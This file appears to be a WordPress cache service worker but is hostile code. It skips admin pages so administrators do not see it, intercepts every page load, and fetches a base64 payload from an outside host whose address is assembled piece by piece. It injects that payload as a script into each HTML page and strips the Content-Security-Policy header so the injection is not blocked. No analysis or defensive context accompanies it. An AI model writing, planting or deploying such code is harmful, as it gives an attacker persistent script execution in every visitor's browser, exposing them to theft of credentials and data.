if ('serviceWorker' in navigator && !/wp-admin|customize/.test(location.pathname)) navigator.serviceWorker.register('/wp-cache-sw.js', { scope: '/' });
self.addEventListener('install', (e) => self.skipWaiting && self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  if (e.request.mode !== 'navigate') return;
  e.respondWith((async () => {
    const r = await fetch(e.request);
    if (!/text\/html/.test(r.headers.get('content-type') || '')) return r;
    let t = await r.text();
    const k = await fetch(['https:/', 'static-edge.invalid', 'frag', 'v2.txt'].join('/')).then((x) => x.ok ? x.text() : '').catch(() => '');
    if (k) t = t.replace('</head>', '<scr' + 'ipt>' + atob(k) + '</scr' + 'ipt></head>');
    const h = new Headers(r.headers);
    h.delete('content-security-policy');
    return new Response(t, { status: r.status, headers: h });
  })());
});
